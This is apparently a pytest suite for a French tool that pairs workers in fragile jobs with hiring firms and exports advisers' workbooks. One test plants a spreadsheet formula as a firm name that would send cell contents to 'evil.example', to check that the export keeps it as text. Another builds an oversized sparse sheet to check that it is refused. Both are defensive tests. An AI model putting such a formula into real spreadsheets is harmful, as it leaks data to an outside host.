        book = pd.read_excel(io.BytesIO(pairing_xlsx(result, fragile, hiring, lang=lang)), sheet_name=0,
                             engine="openpyxl")
        link = "Lien" if lang == "fr" else "Link"
        assert set(book[link]) == words
        assert not {"mobility", "skills", "close", "True", "False"} & set(book.astype(str).stack())


@pytest.mark.realdata
def test_national_pack_places_communes_at_their_own_centroids(national_pack, realdata):
    territory = Territory.load(national_pack, validate=False)
    polygons = gpd.read_file(realdata / "geo" / "communes_2025.gpkg", layer="communes",
                             where="codgeo IN ('35238', '35051')").set_index("codgeo")
    centres = polygons.geometry.centroid  # degrees: the same centroid build-pack stores
    expected = _km(centres["35238"].y, centres["35238"].x, centres["35051"].y, centres["35051"].x)
    # Rennes and Cesson-Sévigné: one EPCI (Rennes Métropole), hence 0 km between EPCI centroids before
    fragile = rows("fragile", [("Alpha", "35238", "H2913", 1)])
    hiring = rows("hiring", [("Gamma", "35051", "H2913", 1)])
    pair = pair_jobs(fragile, hiring, territory, max_km=30).pairs.iloc[0]
    assert pair["distance_km"] == pytest.approx(expected, abs=0.1) and 3 < pair["distance_km"] < 12
    assert pair["from_located"] == pair["to_located"] == "commune"
    near = neighbours(territory, "ZE2020")
    rodez = set(near.loc[near["zone_a"] == "7621", "zone_b"]) - {"7621"}
    names = territory.zone_names("ZE2020")
    assert {"Millau", "Figeac-Villefranche", "Aurillac"} <= {names[z] for z in rodez}
    assert "7621" not in set(near.loc[near["zone_a"] == "1109", "zone_b"])  # Paris is no neighbour of Rodez


def test_the_pair_command_pairs_by_neighbouring_basins_in_english(tmp_path, capsys):
    pack = tmp_path / "pack"
    placed_territory().save(pack, validate=False)
    fragile = write_list(tmp_path / "f.xlsx", FRAGILE, [("Alpha", "10001", "A1101", 3)])
    hiring = write_list(tmp_path / "h.xlsx", HIRING, [("Next", "10002", "A1101", 1), ("Close", "10003", "A1101", 1)])
    out = tmp_path / "pairs.xlsx"
    assert main(["pair", "--pack", str(pack), "--fragile", str(fragile), "--hiring", str(hiring), "--basins",
                 "neighbours", "--zoning", "BMO", "--lang", "en", "--out", str(out)]) == 0
    assert capsys.readouterr().out == (f"1 person(s) paired out of 3 in fragile jobs and 2 position(s), in the same or "
                                       f"a neighbouring basin (BMO): 1 pair(s) written to {out}.\n")
    sheet = pd.read_excel(out, sheet_name="Pairs", engine="openpyxl")
    assert list(sheet["Hiring firm"]) == ["Next"] and list(sheet["Link"]) == ["same occupation"]
    assert "origin" not in str(sheet["Note on the distance"].iloc[0])  # Amont has its own centroid
    assert main(["pair", "--pack", str(pack), "--fragile", str(fragile), "--hiring", str(hiring), "--out",
                 str(tmp_path / "x.xlsx")]) == 1
    assert "--max-km N" in capsys.readouterr().err


@pytest.mark.parametrize("seed", [5, 8])
def test_neighbouring_basins_pairing_equals_a_networkx_min_cost_flow_on_the_same_rules(seed):
    import networkx as nx
    import numpy as np

    territory = placed_territory()
    scores = {("A1101", "C1101"): 0.5, ("A1101", "B1101"): 0.3, ("B1101", "A1101"): 0.8, ("C1101", "D1101"): 0.6,
              ("D1101", "A1101"): 0.4}
    territory.tables["bridges"] = pd.DataFrame({"from_code": [a for a, _ in scores], "to_code": [b for _, b in scores],
                                                "kind": "close", "source": "test", "score": list(scores.values())})
    # where each commune stands (Bourg has no coordinates: the centre of its EPCI Z2) and its BMO basin
    where = {"10001": (48.0, 2.0), "10004": (48.072, 2.0), "10002": (48.10, 2.0), "10003": (48.0, 2.2)}
    basin = {"10001": "B1", "10004": "B1", "10002": "B2", "10003": "B3"}
    near = {("B1", "B1"), ("B2", "B2"), ("B3", "B3"), ("B1", "B2"), ("B2", "B1")}
    skills = territory.tables["skills"]
    held = skills.groupby("occupation_code")["skill_id"].agg(set).to_dict()
    core = skills[skills["core"]].groupby("occupation_code")["skill_id"].agg(set).to_dict()
    rng = np.random.default_rng(seed)
    communes, codes = list(where), ["A1101", "B1101", "C1101", "D1101"]

    def draw(kind, n):
        data = {(f"{kind}{i}", rng.choice(communes), rng.choice(codes)) for i in range(n)}
        return rows(kind, [(f, c, o, int(rng.integers(1, 4))) for f, c, o in sorted(data)])

    fragile, hiring = draw("fragile", 30), draw("hiring", 30)
    graph = nx.DiGraph()
    for f in fragile.itertuples():
        graph.add_edge("S", f.entry_id, capacity=f.headcount, weight=0)
        for h in hiring.itertuples():
            score = 1.0 if f.occupation_code == h.occupation_code else scores.get((f.occupation_code,
                                                                                    h.occupation_code))
            if score is None or (basin[f.commune_id], basin[h.commune_id]) not in near:
                continue
            gap = len(core.get(h.occupation_code, set()) - held.get(f.occupation_code, set()))
            cost = round(100 * (1 - score) + 5 * gap) + round(_km(*where[f.commune_id], *where[h.commune_id]))
            graph.add_edge(f.entry_id, "H" + h.entry_id, capacity=10**6, weight=cost)
    for h in hiring.itertuples():
        graph.add_edge("H" + h.entry_id, "T", capacity=h.headcount, weight=0)
    flow = nx.max_flow_min_cost(graph, "S", "T")
    result = pair_jobs(fragile, hiring, territory, basins="neighbours", zoning="BMO")
    assert result.paired == sum(flow["S"].values()) > 0
    assert result.total_cost == nx.cost_of_flow(graph, flow)
    used = result.pairs.groupby("hiring_id")["headcount"].sum()
    assert (used <= hiring.set_index("entry_id")["headcount"].reindex(used.index)).all()


def test_pairing_and_passerelles_read_one_training_index_with_the_certif_info_fallback():
    from gpect_core.indicators.bridges import training_for
    from gpect_core.selection import Selection

    territory = small_territory()
    # P2 names no ROME code itself: its BCN diploma code leads to C1101 through Certif Info, as on « Formations »
    territory.tables["training"] = pd.concat([territory.tables["training"].assign(cfd=""), pd.DataFrame({
        "program_id": ["P2"], "title": ["CAP développeur"], "provider": ["Lycée"], "zoning": ["EPCI"],
        "zone_id": ["Z1"], "occupation_codes": [""], "capacity": [30], "year": [2024], "cfd": ["50099001"]})],
        ignore_index=True)
    territory.tables["certifications"] = pd.DataFrame({
        "certification_id": ["1"], "label": ["CAP"], "type": ["CAP"], "level_eu": ["3"], "rncp": [""],
        "formation_diplome": ["50099001"], "occupation_codes": ["C1101"]})
    result = pair_jobs(rows("fragile", [("Alpha", "10001", "A1101", 1)]),
                       rows("hiring", [("Delta", "10001", "C1101", 1)]), territory, max_km=5)
    assert result.pairs.iloc[0]["training"] == "CAP développeur ; Titre pro programmeur"  # most places first
    listed = training_for(territory, Selection("EPCI"), ["C1101"])
    assert sorted(listed["title"]) == ["CAP développeur", "Titre pro programmeur"]
    assert listed.set_index("program_id").loc["P2", "year"] == 2024


def test_a_list_too_long_or_declaring_a_huge_sheet_is_refused_before_it_is_read(tmp_path):
    import time
    import zipfile

    from gpect_core.pairing.reader import MAX_LIST_ROWS

    path = write_list(tmp_path / "enorme.xlsx", FRAGILE,
                      [("Alpha", "10001", "A1101", 1, "6 mois")] * (MAX_LIST_ROWS + 5))
    started = time.process_time()
    with pytest.raises(PairingInputError, match=r"« enorme\.xlsx », feuille « Saisie » : plus de 20\u202f000 lignes"):
        read_list(path, "fragile", small_territory())
    assert time.process_time() - started < 30  # stopped at the limit, not after checking 20,000 rows
    sparse = io.BytesIO()
    with zipfile.ZipFile(sparse, "w") as archive:
        archive.writestr("xl/worksheets/sheet1.xml", '<worksheet><dimension ref="A1:XFD1048576"/><sheetData>'
                         '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>')
    with pytest.raises(PairingInputError, match="« creux.xlsx », feuille « sheet1 » : la feuille s'étend sur"):
        read_list(sparse.getvalue(), "fragile", small_territory(), file_name="creux.xlsx")


def test_a_firm_named_like_a_formula_stays_text_in_the_advisers_workbook():
    territory = placed_territory()
    trap = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'
    fragile = rows("fragile", [(trap, "10001", "A1101", 1)])
    hiring = rows("hiring", [("=1+1", "10004", "A1101", 1)])
    result = pair_jobs(fragile, hiring, territory, max_km=15)
    book = load_workbook(io.BytesIO(pairing_xlsx(result, fragile, hiring)))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert trap in [c.value for c in cells] and "=1+1" in [c.value for c in cells]


def test_the_title_index_is_built_once_per_pack_even_by_the_pair_command(tmp_path, monkeypatch, capsys):
    from gpect_core.survey import matching

    territory = small_territory()
    territory.tables["occupations"] = pd.concat([territory.tables["occupations"], pd.DataFrame(
        {"system": ["ROME4"], "code": ["H2913"], "label": ["Soudeur / Soudeuse"]})])
    territory.tables["occupation_titles"] = pd.DataFrame({"title_id": ["11"], "label": ["Soudeur / Soudeuse TIG"],
                                                          "occupation_code": ["H2913"]})
    pack = tmp_path / "pack"
    territory.save(pack, validate=False)
    builds = []
    real = matching.build_index
    monkeypatch.setattr(matching, "build_index", lambda *tables: builds.append(1) or real(*tables))
    monkeypatch.setattr(matching, "_INDEXES", {})
    fragile = write_list(tmp_path / "f.xlsx", FRAGILE, [("Alpha", "10001", "soudeur tig", 1)])
    hiring = write_list(tmp_path / "h.xlsx", HIRING, [("Gamma", "10001", "soudeur TIG H/F", 1)])
    assert main(["pair", "--pack", str(pack), "--fragile", str(fragile), "--hiring", str(hiring), "--max-km", "10",
                 "--out", str(tmp_path / "pairs.xlsx")]) == 0
    assert len(builds) == 1
    read_list(fragile, "fragile", territory)
    read_list(hiring, "hiring", territory)
    assert len(builds) == 2  # another pack (made in memory): its own index, once


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_with_both_lists_empty_the_workbook_still_holds_the_decided_pairs_of_removed_firms(lang):
    empty = {kind: pd.DataFrame({c: pd.Series(dtype="int64" if c == "headcount" else object) for c in
                                 ("entry_id", "firm", "commune_id", "occupation_code", "headcount", last)})
             for kind, last in (("fragile", "time_frame"), ("hiring", "horizon"))}
    removed_at = pd.Timestamp("2026-11-30 09:00", tz="UTC")
    orphans = pd.DataFrame({"pair_id": ["f1>h1"], "fragile_id": ["f1"], "hiring_id": ["h1"], "from_code": ["A1101"],
                            "to_code": ["C1101"], "headcount": [2], "status": ["refuse"], "fragile_firm": ["Alpha"],
                            "hiring_firm": ["Delta"], "fragile_commune": ["10001"], "hiring_commune": ["10003"],
                            "removed": ["both"], "removed_at": [removed_at]})
    refused = t("pairing.status.refuse", lang)
    data = pairing_xlsx(None, empty["fragile"], empty["hiring"], lang=lang, orphans=orphans_for_export(
        orphans, lang, {"f1>h1": refused}, {"A1101": "Maçon"}, {"10001": "Amont"}))
    sheets = pd.read_excel(io.BytesIO(data), sheet_name=None, engine="openpyxl", dtype=str)
    pairs = sheets[t("pairing.xlsx.sheet.pairs", lang)].fillna("")
    assert pairs[[t(f"pairing.xlsx.{c}", lang) for c in ("fragile_firm", "hiring_firm", "from_label",
                                                          "from_commune_name", "status", "removed_note")]
                 ].values.tolist() == [["Alpha", "Delta", "Maçon", "Amont", refused,
                                        removal_note("both", removed_at, lang)]]
    method = sheets[t("pairing.xlsx.sheet.method", lang)]
    assert t("pairing.xlsx.rule.none", lang) in method[t("pairing.xlsx.value", lang)].tolist()
    assert sheets[t("pairing.xlsx.sheet.left", lang)].empty


def _decided_lists():
    fragile = rows("fragile", [("Alpha", "10001", "A1101", 5), ("Beta", "10002", "A1101", 1),
                               ("Kappa", "10001", "A1101", 2)])
    hiring = rows("hiring", [("Gamma", "10001", "A1101", 2), ("Delta", "10002", "A1101", 1),
                             ("Eta", "10001", "A1101", 3)])
    ids = {f: entry_id(f, c, o) for f, c, o, _n in [*fragile[["firm", "commune_id", "occupation_code",
                                                              "headcount"]].itertuples(index=False),
                                                     *hiring[["firm", "commune_id", "occupation_code",
                                                              "headcount"]].itertuples(index=False)]}
    return fragile, hiring, ids


def _decided_pair(ids, a, b, headcount, km, cost, status):
    return {"pair_id": f"{ids[a]}>{ids[b]}", "fragile_id": ids[a], "hiring_id": ids[b], "from_code": "A1101",
            "to_code": "A1101", "headcount": headcount, "distance_km": km, "cost": cost, "status": status,
            "version": 2}


@pytest.mark.parametrize("by_flow", [False, True])
def test_decided_pairs_are_fixed_before_the_assignment_whatever_the_distance(by_flow, monkeypatch):
    import gpect_core.pairing.solver as solver

    if by_flow:
        monkeypatch.setattr(solver, "MAX_UNIT_LINKS", 0)
    territory = small_territory()
    fragile, hiring, ids = _decided_lists()
    # decided at 20 km: Alpha → Gamma (1 person) and Beta → Delta (11 km) accepted, Alpha → Eta refused
    decided = pd.DataFrame([_decided_pair(ids, "Alpha", "Gamma", 1, 0.0, 0, "accepte"),
                            _decided_pair(ids, "Beta", "Delta", 1, 11.1, 11, "accepte"),
                            _decided_pair(ids, "Alpha", "Eta", 2, 0.0, 0, "refuse")])
    result = pair_jobs(fragile, hiring, territory, max_km=5, decided=decided)
    pairs = result.pairs.set_index(["fragile_firm", "hiring_firm"])
    # both accepted pairs are there with their stored figures, the 11 km one beyond today's 5 km included
    assert pairs.loc[("Alpha", "Gamma"), "headcount"] == 1
    assert pairs.loc[("Beta", "Delta"), ["headcount", "distance_km", "cost"]].tolist() == [1, 11.1, 11]
    assert ("Alpha", "Eta") not in pairs.index  # the refused link is not proposed again
    assert result.pairs["pair_id"].is_unique
    # the reserved headcounts are respected on both sides: Gamma has 1 place left, Delta none
    by_hiring = result.pairs.groupby("hiring_firm")["headcount"].sum()
    assert by_hiring["Gamma"] <= 2 and by_hiring["Delta"] == 1 and by_hiring.get("Eta", 0) <= 3
    by_fragile = result.pairs.groupby("fragile_firm")["headcount"].sum()
    # Alpha may not go to Eta (refused) nor again to Gamma (decided): Kappa takes the places left, on both solvers
    assert by_fragile["Beta"] == 1 and by_fragile["Alpha"] == 1 and by_fragile["Kappa"] == 2
    assert result.paired == 1 + 1 + 2
    # the advisers' workbook lists them with their status
    statuses = {p: {"accepte": "accepté", "refuse": "refusé"}[s] for p, s in zip(decided["pair_id"],
                                                                                   decided["status"], strict=True)}
    books = pd.read_excel(io.BytesIO(pairing_xlsx(result, fragile, hiring, statuses)), sheet_name=None, dtype=str)
    book, method = books["Rapprochements"], books["Méthode"]
    firm, status = t("pairing.xlsx.fragile_firm", "fr"), t("pairing.xlsx.status", "fr")
    assert book.loc[book[firm] == "Beta", status].tolist() == ["accepté"]
    decided_rule = method.set_index(method.columns[0]).loc["Paires décidées"].iloc[0]
    assert decided_rule.startswith("conservées : une paire « accepté » garde ses chiffres enregistrés")


def test_storing_a_new_pairing_never_changes_a_decided_pair_and_versions_a_proposed_one(plan_db_url):
    territory = small_territory()
    store = PairingStore.open(plan_db_url)
    fragile, hiring, ids = _decided_lists()
    store.import_list("fragile", fragile, "edith")
    store.import_list("hiring", hiring, "edith")
    first = pair_jobs(store.list_frame("fragile"), store.list_frame("hiring"), territory, 20)
    store.save_proposals(first.pairs, "edith")
    stored = store.pairs_frame().set_index("pair_id")
    accepted = stored.index[stored["headcount"] == stored["headcount"].min()][0]
    store.set_status(accepted, "accepte", "bruno")
    before = store.pairs_frame().set_index("pair_id")
    # a pairing in which the accepted pair's figures differ (as the old page computed them) is stored
    changed = first.pairs.copy()
    changed["headcount"] = changed["headcount"] + 4
    store.save_proposals(changed, "edith")
    after = store.pairs_frame().set_index("pair_id")
    assert after.loc[accepted].tolist() == before.loc[accepted].tolist()
    proposed = [p for p in after.index if after.loc[p, "status"] == "propose"]
    assert proposed
    for pair_id in proposed:
        assert after.loc[pair_id, "headcount"] == before.loc[pair_id, "headcount"] + 4
        assert after.loc[pair_id, "version"] == before.loc[pair_id, "version"] + 1
        history = store.history_frame(pair_id)
        assert history["kind"].iloc[0] == "update" and history["field"].iloc[0] == "figures"
        assert history["after"].iloc[0] == f'{{"headcount": {after.loc[pair_id, "headcount"]}}}'
    assert store.history_frame(accepted)["kind"].iloc[0] == "status"
    store.close()


def test_an_import_removing_a_firm_listed_in_two_communes_counts_one_firm(plan_db_url):
    from ui.pairing import removal_firms

    store = PairingStore.open(plan_db_url)
    store.import_list("fragile", rows("fragile", [("Alpha", "10001", "A1101", 1), ("Alpha", "10002", "A1101", 2),
                                                  ("Beta", "10001", "B1101", 1)]), "edith")
    removals = store.removals("fragile", rows("fragile", [("Beta", "10001", "B1101", 1)]))
    assert len(removals) == 2
    assert removal_firms(removals).to_dict() == {"Alpha": 0}
    store.close()
